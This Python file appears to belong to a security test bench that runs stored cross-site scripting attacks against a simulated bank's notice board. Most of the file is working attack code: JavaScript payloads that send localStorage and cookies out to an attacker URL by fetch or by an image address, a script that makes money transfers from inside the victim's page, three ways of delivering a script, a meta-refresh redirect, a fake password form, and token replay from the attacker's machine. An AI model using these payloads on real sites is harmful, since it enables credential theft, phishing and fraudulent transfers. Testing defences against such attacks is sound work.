"""A script that gets into a bank's page (CWE-79): it carries away what it can read, or rides on what it cannot.

Mallory leaves it on the notice board, which takes notices from everybody. The victim only reads the board.
"""

import contextlib
import json
import re
import time

from labs.bench import BenchError, Site
from labs.bench.browser import Person

from .attempt import Attempt
from .trap import Trap

__all__ = ["CARRIERS", "lead_away", "leave", "phish", "read_board", "ride", "steal"]


# ---- what the script does: JavaScript, as one expression that is a promise -------------------------------


def thief(trap: Trap) -> str:
    """Read whatever a script can read of the page's credentials, and carry it to Mallory."""
    found = "JSON.stringify({storage: {...localStorage}, cookie: document.cookie})"
    return f'fetch("{trap.loot_at}", {{method: "POST", mode: "no-cors", body: {found}}})'


def rider(amount: int) -> str:
    """Send Mallory money from right here, as the page's own script would."""
    order = json.dumps({"to": "mallory", "amount": amount})
    bearer = "...(localStorage.token ? {Authorization: `Bearer ${localStorage.token}`} : {})"
    headers = f'{{"Content-Type": "application/json", {bearer}}}'
    return f'fetch("/transfer", {{method: "POST", headers: {headers}, body: {json.dumps(order)}}})'


def image(trap: Trap) -> str:
    """Carry away what can be read without fetch: as the address of an image."""
    found = "encodeURIComponent(JSON.stringify({storage: {...localStorage}, cookie: document.cookie}))"
    load = f'i.onload = i.onerror = done; i.src = "{trap.loot_at}?" + {found}'
    return f"new Promise(done => {{ const i = new Image(); {load} }})"


# ---- how it gets to run: HTML ----------------------------------------------------------------------------


def inline(work: str, trap: Trap) -> str:
    """A script element."""
    return f"<script>window.done = {work}</script>"


def handler(work: str, trap: Trap) -> str:
    """An event handler: no script element anywhere."""
    escaped = work.replace("&", "&amp;").replace('"', "&quot;")
    return f'<img src="data:," alt="" onerror="window.done = {escaped}">'


def file(work: str, trap: Trap) -> str:
    """A script file on Mallory's own site."""
    return f'<script src="{trap.put("/fern.js", f"window.done = {work}")}"></script>'


CARRIERS = {"script element": inline, "event handler": handler, "script file": file}
"""How a script gets to run, by name: a function of the script and Mallory's site that gives the HTML."""


# ---- HTML that does harm without a script ----------------------------------------------------------------


def refresh(trap: Trap) -> str:
    """Send the victim to a page of Mallory's, which may look like the bank's."""
    return f'<meta http-equiv="refresh" content="0; url={trap.loot_at}?arrived">'


def form(trap: Trap) -> str:
    """Ask for the password, in the bank's own page."""
    field = '<label>Your session has ended. Password: <input name="password" id="again" type="password"></label>'
    return f'<form method="post" action="{trap.loot_at}">{field}<button id="send">Log in</button></form>'


# ---- the attacks -----------------------------------------------------------------------------------------


def leave(site: Site, notice: str) -> None:
    """Mallory pins a notice on the board."""
    site.visitor("mallory").post("/board", form={"text": notice})


def read_board(site: Site, victim: Person) -> None:
    """The victim opens the page with the board; wait until what runs there is through."""
    victim.goto(f"{site.page}/online")
    victim.evaluate("Promise.resolve(window.done).then(() => null, () => null)")


def ride(site: Site, trap: Trap, victim: Person, amount: int, carrier: str = "script element") -> Attempt:
    """Move the victim's money from inside the victim's own page; Mallory holds nothing afterwards."""
    leave(site, CARRIERS[carrier](rider(amount), trap))
    before = len(site.log)
    read_board(site, victim)
    return Attempt(exchanges=[one for one in site.log[before:] if one.path == "/transfer"], tries=1)


def steal(site: Site, trap: Trap, victim: Person, amount: int, by: str = "fetch") -> Attempt:
    """Carry the credential to Mallory, who uses it from her own machine.

    `by`: how it leaves, "fetch" or "image". `captured`: {"token": what she holds, or None}.
    """
    leave(site, inline({"fetch": thief, "image": image}[by](trap), trap))
    before = len(trap.loot)
    read_board(site, victim)
    new = [one for one in trap.loot[before:] if isinstance(one, dict)]
    token = credential(new[0]) if new else None
    attempt = Attempt(exchanges=trap.brought[before:], captured={"token": token}, tries=1)
    if token:
        mallory = site.visitor("mallory")  # her own machine: the victim's browser is out of it
        headers = {"Authorization": f"Bearer {token}", "Cookie": new[0]["cookie"]}
        order = {"to": "mallory", "amount": amount}
        attempt.exchanges.append(mallory.post("/transfer", json=order, headers=headers).exchange)
    return attempt


def lead_away(site: Site, trap: Trap, victim: Person) -> Attempt:
    """Have the victim's window leave the bank for Mallory's site."""
    leave(site, refresh(trap))
    before = len(trap.loot)
    victim.goto(f"{site.page}/online")
    victim.wait_for_url(f"{trap.origin()}/**")
    return Attempt(exchanges=trap.brought[before:], captured={"arrived": len(trap.loot) > before}, tries=1)


def phish(site: Site, trap: Trap, victim: Person, typed: str) -> Attempt:
    """Ask in the bank's own page for the password, which the victim types; `captured`: {"password": ... or None}."""
    leave(site, form(trap))
    before = len(trap.loot)
    read_board(site, victim)
    victim.evaluate("document.addEventListener('securitypolicyviolation', () => { document.title = 'stopped' })")
    victim.fill("#again", typed)
    # Not Person.click: it would wait for the navigation that a policy may have stopped.
    victim.evaluate("document.querySelector('#send').click()")
    sent_or_stopped(trap, victim, before)
    new = trap.loot[before:]
    captured = {"password": new[0]["password"] if new else None}
    return Attempt(exchanges=trap.brought[before:], captured=captured, tries=1)


def sent_or_stopped(trap: Trap, victim: Person, before: int) -> None:
    """Wait until the form has arrived, or the page's policy has stopped it. Raises BenchError after 10 s."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        with contextlib.suppress(BenchError):  # a page that is being left cannot be asked
            if len(trap.loot) > before:
                return victim.wait_for_url(f"{trap.origin()}/**")
            if victim.evaluate("document.title") == "stopped":
                return None
    raise BenchError("The form was neither sent nor stopped within 10 seconds.")


def credential(found: dict) -> str | None:
    """The token in what a script read; None when there was none to read."""
    stored = found.get("storage", {}).get("token")
    in_cookie = re.search(r"(?:^|; )[^=;]*(?:sid|token)=([^;]+)", found.get("cookie", ""))
    return stored or (in_cookie[1] if in_cookie else None)
